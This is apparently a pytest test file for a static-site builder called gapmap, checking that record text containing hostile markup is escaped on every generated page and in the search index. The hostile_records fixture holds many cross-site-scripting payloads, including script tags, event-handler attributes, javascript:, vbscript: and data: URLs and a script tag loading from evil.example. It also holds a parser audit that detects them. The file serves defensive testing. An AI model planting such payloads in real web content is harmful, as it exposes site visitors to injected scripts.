"""No record text puts live markup on any page: a map full of hostile records, built without
--strict, parsed page by page."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from conftest import record, write_map

MARK = "PWNED"
XSS = f'<script>alert("{MARK}")</script>'


def hostile_records() -> list:
    obs = [{"year": 2015, "value": 100.0, "source": "evil-source", "note": f'<a href=javascript:{MARK}>x</a>'},
           {"year": 2020, "value": 40.0, "source": "evil-source", "note": XSS}]
    return [
        record("field", "physics", title=f"<svg onload=alert('{MARK}')>", summary=f"<img src=x onerror={MARK}>"),
        record("resource", "evil-source", title=f"&lt;/title&gt;{XSS}", url=f"https://example.org/\"onmouseover=\"{MARK}"),
        record("capability", "evil-cap", title=f"</title>{XSS}", summary=XSS,
               description=f"[a](javascript:alert('{MARK}')) [b](JaVaScRiPt:{MARK}) <javascript:{MARK}> "
                           f"<img src=x onerror=alert('{MARK}')> ![i](data:text/html,{MARK}) [evil-source]\n\n{XSS}",
               cost={"unit": f"</div>{XSS}", "observations": obs, "model": {"kind": "exponential", "annual_decline": 0.2},
                     "target": {"value": 1.0, "label": f"<b onmouseover={MARK}>t</b>"}},
               build={"cost_usd": 1.0e6, "years": 2, "note": f'<iframe src="javascript:{MARK}">'}),
        record("gap", "evil-gap", title=f"<style>body{{}}</style>{XSS}", summary=f"<a href='javascript:{MARK}'>x</a>",
               description=f"# {XSS}\n\n`evil-cap` <div onclick=\"{MARK}\">", outcome=f"[o](vbscript:{MARK})",
               tags=["measurement"], resources=["evil-source"],
               capabilities=[{"capability": "evil-cap", "role": "necessary", "note": XSS}],
               assessment={"importance": 3, "tractability": 3, "neglectedness": 3, "confidence": "low",
                           "rationale": f"<script src=//evil.example/{MARK}.js></script>"}),
    ]


class Audit(HTMLParser):
    """Collects every way a page could run code."""

    def __init__(self):
        super().__init__()
        self.problems, self.in_script = [], False

    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and value.startswith(("javascript:", "vbscript:", "data:")):
                self.problems.append(f"<{tag} {name}={value[:40]}>")
            if tag == "script" and MARK.lower() in value:
                self.problems.append(f"<script {name}={value[:40]}>")
            if name == "data-figure" and "<" in value:
                self.problems.append("a chart string with markup (plotly would read it)")
        if tag in ("img", "iframe", "svg", "object", "embed", "style") and MARK in str(attrs):
            self.problems.append(f"<{tag}> from record text")

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if self.in_script and MARK in data:
            self.problems.append("record text inside a <script>")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from gapmap.site.build import build_site

    kb = write_map(tmp_path_factory.mktemp("hostile") / "kb", *hostile_records())
    (kb / "gaps" / "broken.yaml").write_text("id: broken\ntitle: [unclosed\n")
    return build_site(kb, tmp_path_factory.mktemp("hostile-site") / "site", strict=False)


def test_hostile_records_are_built_without_strict_and_the_broken_one_is_absent(hostile_site):
    assert (hostile_site / "capabilities" / "evil-cap" / "index.html").is_file()
    assert not (hostile_site / "gaps" / "broken").exists()


def test_no_page_carries_script_event_handler_or_script_url_from_record_text(hostile_site):
    problems = {}
    for html_file in hostile_site.rglob("*.html"):
        audit = Audit()
        audit.feed(html_file.read_text(encoding="utf-8"))
        if audit.problems:
            problems[str(html_file.relative_to(hostile_site))] = audit.problems
    assert problems == {}


def test_hostile_text_is_shown_as_text(hostile_site):
    html = (hostile_site / "capabilities" / "evil-cap" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&quot;PWNED&quot;)&lt;/script&gt;" in html


def test_search_index_holds_no_markup_from_record_text(hostile_site):
    index = json.loads((hostile_site / "search" / "search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        assert "<script" not in doc["title"] + doc["text"] and "<img" not in doc["title"] + doc["text"]
